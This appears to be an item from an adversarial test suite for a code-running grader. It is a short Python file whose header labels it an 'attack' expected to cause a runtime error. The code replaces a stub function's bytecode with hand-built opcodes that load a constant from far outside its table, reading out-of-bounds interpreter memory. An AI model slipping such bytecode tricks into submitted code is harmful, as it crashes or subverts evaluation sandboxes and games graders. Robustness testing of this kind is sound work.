# /// attack
# aim = "Runs byte code that no compiler writes: it takes a constant from far behind its table, and calls what lies there."
# outcome = ["RTE"]
# naive = "crashed"
# ///

from opcode import opmap


def pair_count(numbers, target):
    return None


extended, load, end = opmap["EXTENDED_ARG"], opmap["LOAD_CONST"], opmap["RETURN_VALUE"]
pair_count.__code__ = pair_count.__code__.replace(
    co_code=bytes((opmap["RESUME"], 0, extended, 0x0F, extended, 0xFF, load, 0xFF, end, 0))
)
